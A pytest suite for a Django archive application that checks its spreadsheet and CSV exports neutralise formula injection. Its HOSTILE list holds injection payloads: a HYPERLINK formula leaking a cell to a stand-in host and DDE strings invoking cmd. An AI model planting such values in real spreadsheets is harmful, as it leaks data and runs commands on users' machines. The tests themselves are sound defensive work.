"""Every spreadsheet we hand out keeps hostile text as text (no formula cell), numbers and dates
typed; and each export door, opened with openpyxl, holds no formula for such titles and names."""

import csv
import datetime
import decimal
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from dangan.accounts.models import Role
from dangan.audit.models import AuditEvent
from dangan.audit.services import record_event
from dangan.catalogue.models import Category
from dangan.spreadsheets import MAX_CELL_TEXT, Spreadsheet, csv_cell

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(content: bytes, expected: list[str]):
    """No cell of the workbook is a formula, each hostile text is there as it was, and each
    formula-like text is quoted (so that editing the cell in Excel keeps it text)."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert formula_like and all(c.quotePrefix for c in formula_like)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert any(text in t for t in texts), text
    return cells


def test_formula_like_text_is_written_as_quoted_text():
    sheet = Spreadsheet("t")
    sheet.append(HOSTILE)
    cells = _no_formula(sheet.to_bytes(), HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_numbers_dates_and_times_stay_typed():
    when = timezone.make_aware(datetime.datetime(2024, 3, 1, 9, 30))
    sheet = Spreadsheet("t")
    sheet.append([-5, 2.5, decimal.Decimal("3.25"), datetime.date(2001, 5, 1), when, "text"])
    number, real, dec, day, moment, text = _cells(sheet.to_bytes())
    assert (number.value, number.data_type) == (-5, "n")
    assert real.value == 2.5 and dec.value == 3.25 and dec.data_type == "n"
    assert day.is_date and day.value.date() == datetime.date(2001, 5, 1)
    assert moment.is_date and moment.value == datetime.datetime(2024, 3, 1, 9, 30)  # local time
    assert text.data_type == "s" and not text.quotePrefix


def test_control_characters_and_overlong_text_do_not_fail_the_export():
    sheet = Spreadsheet("a/b:c[1]")  # characters a sheet name may not hold
    sheet.append(["a\x00b\x07c", "长" * (MAX_CELL_TEXT + 10), {"k": "=v"}])
    control, long, structured = _cells(sheet.to_bytes())
    assert control.value == "a\ufffdb\ufffdc"
    assert len(long.value) == MAX_CELL_TEXT and long.value.endswith("…")
    assert structured.value == '{"k": "=v"}'


@settings(deadline=None)  # a workbook an example: a loaded machine takes more than 200 ms
@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)), max_size=8))
def test_no_text_ever_becomes_a_formula(values):
    sheet = Spreadsheet("t")
    sheet.append(values)
    assert [c for c in _cells(sheet.to_bytes()) if c.data_type == "f"] == []


def test_csv_cells_follow_owasp():
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [csv_cell(v) for v in (-5, None, "甲", datetime.date(2001, 5, 1))] == [
        -5,
        "",
        "甲",
        datetime.date(2001, 5, 1),
    ]


# Each door that hands out a spreadsheet, with hostile titles and names in it.


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def hostile_records(make_record, archivist):
    return [make_record(actor=archivist, title=t, remarks=t, responsible=t) for t in HOSTILE[:4]]


def test_record_list_export(logged_in, archivist, hostile_records, exported):
    client = logged_in(archivist)
    content = exported(client, client.get(reverse("catalogue:record-export")))
    _no_formula(content, HOSTILE[:4])


def test_statistics_table_and_annual_report(logged_in, archivist, make_record, exported):
    year = timezone.localdate().year
    evil = Category.objects.create(code="@EV", name=HOSTILE[0])
    make_record(actor=archivist, category=evil, year=year, date=datetime.date(year, 1, 2))
    client = logged_in(archivist)
    table = exported(client, client.post(reverse("stats:table-export", args=["category"])))
    _no_formula(table, [HOSTILE[0]])
    report = exported(client, client.post(reverse("stats:report-export", args=[year, "xlsx"])))
    _no_formula(report, ["@EV " + HOSTILE[0]])


def test_utilisation_register(logged_in, make_user, hostile_records):
    from dangan.access.services import register_visit
    from tests.api.conftest import id_number

    clerk = make_user(role=Role.READING_CLERK)
    register_visit(
        actor=clerk,
        visitor_name=HOSTILE[1],
        visitor_unit=HOSTILE[3],
        id_number=id_number("36042119620315001"),
        purpose="personal",
        records=hostile_records[:1],
        remarks=HOSTILE[2],
    )
    today = timezone.localdate().isoformat()
    response = logged_in(clerk).get(
        "/access/register/", {"start": today, "end": today, "format": "xlsx"}
    )
    _no_formula(_body(response), [HOSTILE[1], HOSTILE[2], HOSTILE[3]])


def test_audit_trail_export(logged_in, make_user, hostile_records, exported):
    for text in HOSTILE[:4]:
        record_event(actor=None, action="update", object_type="catalogue.record", object_repr=text)
    client = logged_in(make_user(role=Role.AUDITOR, grants=()))
    _no_formula(exported(client, client.post(reverse("audit:export-xlsx"))), HOSTILE[:4])
    body = exported(client, client.post(reverse("audit:export-csv"))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HOSTILE[0] in cells
    assert AuditEvent.objects.filter(action="export").count() == 2
